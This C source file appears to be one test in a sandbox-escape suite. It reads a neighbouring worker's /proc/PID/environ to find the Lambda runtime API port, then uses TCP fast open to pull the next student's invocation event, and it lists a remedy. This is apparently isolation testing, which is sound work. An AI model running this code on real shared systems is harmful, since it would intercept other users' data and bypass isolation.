// SPDX-License-Identifier: MIT
/*
 * Goal:  the next request, where the student's environment was cleaned.
 * Means: the worker's was not. Its /proc/PID/environ still says where the control interface is;
 *        then sendmsg(2) with the address of a connection that is opened by sending (TCP fast
 *        open), so that connect(2) is never called.
 */
#include "attacks/attack.h"
#include "attacks/proc-read/neighbours.h"

#include <arpa/inet.h>
#include <fcntl.h>
#include <stdio.h>
#include <sys/socket.h>

static struct sockaddr_in api = { .sin_family = AF_INET };

/* Learn the address from a process's environment. */
static bool rob(pid_t pid)
{
	static const char name[] = "AWS_LAMBDA_RUNTIME_API=";
	char path[64], block[32768], *at;
	ssize_t n;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/environ", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	n = fd < 0 ? -1 : read(fd, block, sizeof(block) - 1);
	close(fd);
	if (n <= 0)
		return false;
	block[n] = '\0';
	at = memmem(block, (size_t)n, name, sizeof(name) - 1);
	at = at ? strrchr(at, ':') : NULL;
	if (at)
		api.sin_port = htons((unsigned short)strtoul(at + 1, NULL, 10));
	return at;
}

static enum claim run(const struct brief *b)
{
	static char ask[] = "GET /2018-06-01/runtime/invocation/next HTTP/1.1\r\n"
			    "Host: 127.0.0.1\r\n\r\n";
	struct iovec text = { ask, sizeof(ask) - 1 };
	struct msghdr message = {
		.msg_name = &api, .msg_namelen = sizeof(api), .msg_iov = &text, .msg_iovlen = 1
	};
	char event[4096];
	ssize_t n;
	int fd;

	api.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	attempting(b);
	if (!any_neighbour(b, rob))
		return denied("/proc/PID/environ");
	fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (fd < 0 || sendmsg(fd, &message, MSG_FASTOPEN | MSG_NOSIGNAL) < 0)
		return denied("sendmsg MSG_FASTOPEN");
	n = read(fd, event, sizeof(event));
	if (n <= 0)
		return denied("read");
	loot(event, (size_t)n);
	return CLAIM_DONE;
}

const struct attack attack = {
	.effect = "the next student's event goes to the attacker",
	.means = "the address from the worker's environ, TCP fast open instead of connect(2)",
	.oracle = "api:next",
	.id = "LAPI-05",
	.attack_id = "T1552.001, T1557, CWE-306",
	.remedy = "seccomp without socket; a worker that is not dumpable",
	.refs = (const char *const[]){ "proc_pid_environ(5)", "sendmsg(2), MSG_FASTOPEN", NULL },
	.run = run,
};
